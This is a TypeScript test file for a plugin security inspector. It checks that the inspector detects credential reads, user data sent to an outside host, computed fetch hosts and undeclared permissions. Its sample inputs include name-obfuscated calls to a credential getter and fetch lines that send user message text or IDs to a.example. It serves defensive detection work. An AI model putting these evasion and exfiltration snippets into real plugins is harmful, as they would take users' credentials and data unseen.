import { describe, expect, test } from "vitest";
import { inspectPlugin } from "../src/index.ts";
import { plugin } from "./fixtures.ts";

const declared = (statements: string): string =>
  plugin(statements).replace("priority: 70", "priority: 70, permissions: { hosts: [] }");

const rules = (source: string): string[] =>
  inspectPlugin(source).findings.map(({ rule }): string => rule);

describe("what the plugin takes is seen, however its name is written", () => {
  test.each([
    ["a member", `await ctx.getPlatformCreds("feishu");`],
    ["a name in brackets", `await ctx["getPlatformCreds"]("feishu");`],
    ["a name in pieces", `await ctx["getPlatform" + "Creds"]("feishu");`],
    ["a constant", `const name = "getPlatformCreds"; await ctx[name]("feishu");`],
    ["a pattern", `const { getPlatformCreds: g } = ctx; await g("feishu");`],
    ["a quoted name of a pattern", `const { "getPlatformCreds": g } = ctx; await g("feishu");`],
    [
      "a computed name of a pattern",
      `const { ["getPlatform" + "Creds"]: g } = ctx; await g("feishu");`,
    ],
    ["a copy", `const c = { ...ctx }; await c.getPlatformCreds("feishu");`],
    [
      "a copy in a copy",
      `const c = { a: { x: 1, ...ctx } }; await ({ ...c }).a.getPlatformCreds("feishu");`,
    ],
  ])("%s", (_what, statements) => {
    const found = rules(declared(statements));
    expect(found).toContain("reads-credentials");
    expect(found).toContain("permission-not-declared");
  });

  test.each([
    ["a service", `await ctx["aiService"].chat([]);`],
    ["a service of a pattern", `const { "searchService": s } = ctx; await s.search("x");`],
    ["data", `ctx.log(ctx["mediaBuffer"]);`],
  ])("%s", (_what, statements) => {
    expect(rules(declared(statements))).toContain("permission-not-declared");
  });

  test.each([
    ["a member", `await fetch("https://a.example/?" + ctx["msg"].text);`],
    ["a pattern", `const { "userId": u } = ctx; await fetch("https://a.example/?" + u);`],
  ])("what of the user goes out: %s", (_what, statements) => {
    expect(rules(plugin(statements))).toContain("sends-user-data");
  });

  test.each([
    ["a member", `await fetch(await ctx["storage"].get("x"));`],
    ["a pattern", `const { "storage": s } = ctx; await fetch(await s.get("x"));`],
  ])("where a host comes from: %s", (_what, statements) => {
    expect(rules(plugin(statements))).toContain("fetch-host-computed");
  });

  test.each([
    ["a copy of bot", `const b = { ...ctx.bot }; await b.sendText("u", "x");`, true],
    ["a copy of the context", `const c = { ...ctx }; await c.bot.sendText("u", "x");`, true],
    [
      "a method of the plugin's own",
      `const b = { ...ctx.bot, sendText() {} }; b.sendText("u");`,
      false,
    ],
    ["an object of its own", `const o = { sendText() {} }; ({ ...o }).sendText("u");`, false],
  ])("who is written to: %s", (_what, statements, isSeen) => {
    expect(rules(declared(statements)).includes("permission-not-declared")).toBe(isSeen);
  });

  test("what belongs to the answer of a call is not given to it", () => {
    expect(rules(plugin(`ctx.log((await fetch("https://a.example/")).msg);`))).not.toContain(
      "sends-user-data",
    );
  });
});

test("the database is seen in brackets too", () => {
  expect(rules(plugin(`await ctx["pool"].query("");`))).toContain("built-in-only");
  const source = `export async function handler({ "pool": p }) { await p.query(""); return { handled: true }; }`;
  expect(rules(source)).toContain("built-in-only");
});
